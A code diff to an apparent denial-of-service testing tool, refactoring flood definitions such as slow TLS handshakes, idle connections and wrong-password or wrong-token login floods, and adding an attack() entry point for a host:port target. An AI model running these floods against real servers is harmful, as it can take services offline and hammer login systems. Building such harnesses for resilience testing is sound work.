@@ -80,6 +80,8 @@ class Flood:
         After each part.
     is_tls
         Whether the bytes are those of TLS.
+    has_users
+        Whether it shows logins, to a server that has users.
     """
 
     parts: Callable[[], Iterable[bytes]]
@@ -90,6 +92,7 @@ class Flood:
     renews: bool = False
     pause_seconds: float = 0.0
     is_tls: bool = False
+    has_users: bool = False
 
 
 def _call(stream: int, path: str, data: bytes, more: Iterable[tuple[str, str]] = (), *, ends: bool = True) -> bytes:
@@ -148,6 +151,7 @@ def _open_calls(path: str, data: bytes) -> bytes:
     return b"".join(_call(stream, path, data, ends=False) for stream in _streams(_STREAMS_MAX))
 
 
+@cache
 def _client_hello() -> bytes:
     context = ssl.create_default_context()
     context.set_alpn_protocols(["h2"])
@@ -227,8 +231,12 @@ FLOODS: dict[str, Flood] = {
     ),
     "idle": Flood(lambda: [_BEGIN], connections=1000),
     "connections": Flood(lambda: [_BEGIN], connections=50, renews=True),
-    "wrong tokens": Flood(lambda: _by_turns(_GET, _GET_SMALL, _wrong_token), waits=True, renews=True),
-    "wrong passwords": Flood(lambda: _by_turns(_GET, _GET_SMALL, _wrong_password), waits=True, renews=True),
+    "wrong tokens": Flood(
+        lambda: _by_turns(_GET, _GET_SMALL, _wrong_token), waits=True, renews=True, has_users=True
+    ),
+    "wrong passwords": Flood(
+        lambda: _by_turns(_GET, _GET_SMALL, _wrong_password), waits=True, renews=True, has_users=True
+    ),
     "slow handshakes": Flood(
         lambda: _slowly(_client_hello()), connections=500, pause_seconds=0.02, is_tls=True
     ),
@@ -286,6 +294,15 @@ class _Connection:
         return self._flood.renews and self.is_done and not self._is_waiting
 
 
+def attack(name: str, target: str, done: Done, stop: threading.Event) -> None:
+    """Flood a server until it is enough."""
+    host, port = target.rsplit(":", 1)
+    if name == CHANGES_OF_KEYS:
+        change_keys((host, int(port)), done, stop)
+    else:
+        _attack(FLOODS[name], (host, int(port)), done, stop)
+
+
 def _attack(flood: Flood, address: tuple[str, int], done: Done, stop: threading.Event) -> None:
     poll = select.epoll()
     connections: dict[int, _Connection] = {}
@@ -332,15 +349,11 @@ def main() -> None:
     parser.add_argument("flood", choices=FLOODS)
     parser.add_argument("target", help="host:port")
     options = parser.parse_args()
-    host, port = options.target.rsplit(":", 1)
     os.nice(_NICE)
     stop, done = threading.Event(), Done()
     threading.Thread(target=_wait_for_end, args=(stop,)).start()
     began = time.monotonic()
-    if options.flood == CHANGES_OF_KEYS:
-        change_keys((host, int(port)), done, stop)
-    else:
-        _attack(FLOODS[options.flood], (host, int(port)), done, stop)
+    attack(options.flood, options.target, done, stop)
     done.processor = time.process_time() / (time.monotonic() - began)
     print(json.dumps(asdict(done)))
 
